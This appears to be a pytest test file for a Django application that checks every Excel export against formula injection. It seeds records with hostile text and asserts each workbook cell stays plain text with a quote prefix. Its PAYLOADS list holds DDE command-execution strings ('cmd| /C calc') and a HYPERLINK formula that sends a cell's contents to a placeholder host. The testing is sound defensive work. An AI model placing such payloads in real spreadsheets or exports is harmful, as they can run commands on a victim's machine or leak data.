"""Formula injection (issue #21.3): every export writes user text as text, never as a formula.

Each export is rendered with hostile text (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR) in
every text field it shows; the workbook is opened with openpyxl and any formula cell fails the
test. The exports are discovered from the source: a new ``xlsx_response`` / ``write_workbook``
call site that this test does not render fails ``test_every_export_is_covered``.
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from xiaoneng.campaigns import services as campaign_services
from xiaoneng.campaigns.models import (
    Campaign,
    CampaignTemplate,
    ReportingRequirement,
    Submission,
    Target,
)
from xiaoneng.complaints import services as complaint_services
from xiaoneng.complaints.models import Category
from xiaoneng.core import audit, clock
from xiaoneng.core.models import Department, LoginLog, Person, Unit
from xiaoneng.core.services import org as org_services
from xiaoneng.core.spreadsheet import FORMULA_TRIGGERS
from xiaoneng.documents import archive as document_archive
from xiaoneng.evaluations.services import ethics as ethics_services
from xiaoneng.evaluations.services import surveys as survey_services
from xiaoneng.rectification import excel as ledger_excel
from xiaoneng.rectification import services as ledger_services
from xiaoneng.rectification.models import Issue, RectificationItem

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "xiaoneng"
PAYLOADS = [
    '=HYPERLINK("http://x.test/?"&L2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _poison(qs, *fields: str) -> None:
    """Overwrite text fields with the payloads (bypassing form checks: the writer must cope)."""
    payloads = itertools.cycle(PAYLOADS)
    model = qs.model
    for obj in qs:
        values = {}
        for name in fields:
            limit = model._meta.get_field(name).max_length
            values[name] = next(payloads)[:limit] if limit else next(payloads)
        model.objects.filter(pk=obj.pk).update(**values)


def assert_no_formulas(data: bytes) -> int:
    """No cell of any sheet is a formula; text that looks like one carries the quote prefix.
    Returns how many hostile cells were seen (each export must show some)."""
    wb = load_workbook(io.BytesIO(data))  # full mode: formulas come back as data_type "f"
    hostile = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                assert cell.data_type != "f", (
                    f"{ws.title}!{cell.coordinate} is a formula: {value!r}"
                )
                if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type in ("s", "inlineStr"), cell.coordinate
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix"
                    hostile += 1
    return hostile


@pytest.fixture
def hostile(org):
    """The small organisation, a complaint, a campaign, a ledger item and log records, with
    hostile text in every text field the exports show."""
    category = Category.objects.create(code="hostile", name=PAYLOADS[0], group="服务")
    for anonymous in (False, True):
        complaint = complaint_services.complaint_register(
            actor=org.alice,
            channel="phone",
            type="complaint",
            category=category,
            subject_unit=org.unit_a,
            title=PAYLOADS[1],
            content=PAYLOADS[2],
            complainant={
                "name": PAYLOADS[3],
                "phone": "=1+1",
                "address": PAYLOADS[4],
                "anonymous": anonymous,
            },
        )
        complaint_services.complaint_dispatch(complaint=complaint, actor=org.alice, unit=org.unit_a)
    campaign = campaign_services.campaign_create_from_template(
        actor=org.alice,
        template=CampaignTemplate.objects.get(code="wenming-chengshi"),
        year=2026,
        units=[org.unit_a, org.unit_b],
    )
    campaign_services.campaign_start(actor=org.alice, campaign=campaign)
    submission = Submission.objects.filter(requirement__campaign=campaign).first()
    Submission.objects.filter(pk=submission.pk).update(status="returned", return_reason=PAYLOADS[5])
    _poison(ReportingRequirement.objects.filter(campaign=campaign), "name")
    _poison(
        Target.objects.filter(campaign=campaign),
        "item",
        "content",
        "standard",
        "leader_name",
        "responsible_office",
        "responsible_person",
    )
    _poison(Campaign.objects.filter(pk=campaign.pk), "name")
    issue = ledger_services.issue_create(
        actor=org.alice,
        unit=org.unit_a,
        source="inspection",
        title="标题",
        description="描述",
    )
    ledger_services.item_create(
        actor=org.alice, issue=issue, type="immediate", measures="措施", target="目标"
    )
    _poison(Issue.objects.all(), "title", "description")
    _poison(
        RectificationItem.objects.all(),
        "measures",
        "target",
        "responsible_person_name",
        "responsible_leader_name",
        "latest_progress",
    )
    survey = survey_services.survey_create(
        actor=org.alice,
        title="满意度测评",
        units=[org.unit_a, org.unit_b],
        opens_at=clock.now() - dt.timedelta(days=1),
        closes_at=clock.now() + dt.timedelta(days=30),
    )
    survey_services.survey_open(actor=org.alice, survey=survey)
    survey_services.batch_create(actor=org.alice, survey=survey, unit=org.unit_a, size=2)
    ethics_services.file_create(actor=org.alice, person=org.dave.person, year=2026)
    # audited writes with hostile values (the audit log shows object, before / after, reason)
    org_services.unit_update(actor=org.alice, unit=org.unit_b, name=PAYLOADS[6])
    audit.record(
        "update",
        org.unit_b,
        before={"name": PAYLOADS[1]},
        after={"name": PAYLOADS[2]},
        actor=org.alice,
        reason=PAYLOADS[0],
    )
    _poison(Unit.objects.all(), "name", "short_name", "address", "phone")
    _poison(Department.objects.all(), "name", "phone")
    _poison(Person.objects.all(), "name", "position", "title", "phone")
    for payload in PAYLOADS:
        LoginLog.objects.create(
            at=clock.now(),
            username=payload,
            user_agent=payload,
            success=False,
            outcome=LoginLog.Outcome.choices[-1][0],
        )
    return {"campaign": Campaign.objects.get(pk=campaign.pk), "survey": survey}


def _get(client, user, url, **params) -> bytes:
    client.force_login(user)
    response = client.get(url, params)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
    assert "attachment" in response["Content-Disposition"]
    return response.content


# Every export: name → how to render it as the office. The names are checked against the source.
def _exports(client, org, hostile):
    campaign = hostile["campaign"]
    x = {"export": "xlsx"}
    return {
        "complaints.queue": lambda: _get(client, org.alice, reverse("complaints:queue"), **x),
        "complaints.mine": lambda: _get(client, org.alice, reverse("complaints:mine"), **x),
        "org.units": lambda: _get(client, org.alice, reverse("org:units"), **x),
        "org.departments": lambda: _get(client, org.alice, reverse("org:departments"), **x),
        "org.people": lambda: _get(client, org.alice, reverse("org:people"), **x),
        "org.import_template": lambda: _get(client, org.alice, reverse("org:import"), template="1"),
        "security.login_log": lambda: _get(client, org.alice, reverse("org:loginlog"), **x),
        "security.audit_log": lambda: _get(client, org.alice, reverse("org:audit"), **x),
        "campaigns.matrix": lambda: _get(
            client, org.alice, reverse("campaigns:matrix_export", args=[campaign.pk])
        ),
        "campaigns.targets": lambda: _get(
            client, org.alice, reverse("campaigns:targets_export", args=[campaign.pk])
        ),
        "rectification.ledger": lambda: ledger_excel.export_items(actor=org.alice)[0],
        "reports.by_category": lambda: _get(
            client, org.alice, reverse("reports:download", args=["complaints.by_category"])
        ),
        "reports.by_unit": lambda: _get(
            client, org.alice, reverse("reports:download", args=["complaints.by_unit"])
        ),
        "evaluations.survey_rates": lambda: _get(
            client,
            org.alice,
            reverse("evaluations:survey-export", args=[hostile["survey"].pk]),
            by="unit",
        ),
        "evaluations.ethics": lambda: _get(
            client, org.alice, reverse("evaluations:ethics-export"), year="2026"
        ),
        "documents.archive": lambda: _archive_workbooks(org, campaign),
    }


def _archive_workbooks(org, campaign) -> bytes:
    """The campaign archive's workbooks: each is checked; the ledger's (hostile rows) returned."""
    data, _count = document_archive.build_archive(org.alice, campaign)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        books = {n: zf.read(n) for n in zf.namelist() if n.endswith(".xlsx")}
    assert len(books) >= 4  # index, ledger, findings, evaluation results, decisions
    for book in books.values():
        assert_no_formulas(book)
    return next(book for name, book in books.items() if "整改台账" in name)


EXPORT_NAMES = [
    "complaints.queue",
    "complaints.mine",
    "org.units",
    "org.departments",
    "org.people",
    "org.import_template",
    "security.login_log",
    "security.audit_log",
    "campaigns.matrix",
    "campaigns.targets",
    "rectification.ledger",
    "reports.by_category",
    "reports.by_unit",
    "evaluations.survey_rates",
    "evaluations.ethics",
    "documents.archive",
]
# Where each export is written (module → the exports above that come from it).
WRITERS = {
    "complaints/views/queues.py": {"complaints.queue", "complaints.mine"},
    "core/views_org.py": {"org.units", "org.departments", "org.people", "org.import_template"},
    "core/importing/workbook.py": {"org.import_template"},
    "core/views_security.py": {"security.login_log", "security.audit_log"},
    "campaigns/excel.py": {"campaigns.matrix", "campaigns.targets"},
    "campaigns/views.py": {"campaigns.matrix", "campaigns.targets"},
    "rectification/excel/export.py": {"rectification.ledger"},
    "reports/views.py": {"reports.by_category", "reports.by_unit"},
    "evaluations/views/surveys.py": {"evaluations.survey_rates"},
    "evaluations/views/ethics.py": {"evaluations.ethics"},
    "documents/archive.py": {"documents.archive"},
}


NOT_YET_RENDERED: set[str] = set()  # every writer is rendered above


@pytest.mark.parametrize("name", EXPORT_NAMES)
def test_every_export_writes_hostile_text_as_text(client, org, hostile, name):
    data = _exports(client, org, hostile)[name]()
    seen = assert_no_formulas(data)
    if name != "org.import_template":  # the template holds only its own example rows
        assert seen, f"{name}: no hostile text reached the export (is the fixture still used?)"


ZIP_ARCHIVES = {"documents/archive.py"}


def test_every_export_is_covered():
    """A module that writes a workbook must be listed in WRITERS (and its export rendered
    above); only core/spreadsheet.py may use openpyxl or build xlsx itself."""
    writers = set()
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if "/tests/" in rel or rel.startswith("core/spreadsheet"):
            continue
        text = path.read_text(encoding="utf-8")
        imports = set(
            re.findall(r"^\s*(?:from|import)\s+(openpyxl|xlsxwriter|zipfile)\b", text, re.M)
        )
        if rel in ZIP_ARCHIVES:
            imports.discard("zipfile")  # a .zip of files (the campaign archive), not a workbook
        assert not imports, f"{rel} imports {imports}: read and write through core.spreadsheet"
        if re.search(r"\b(xlsx_response|write_workbook|write_xlsx|org_sheets)\(", text):
            writers.add(rel)
    missing = writers - set(WRITERS) - NOT_YET_RENDERED
    assert not missing, f"exports not covered by this test: {missing}"
    assert set().union(*WRITERS.values()) == set(EXPORT_NAMES)
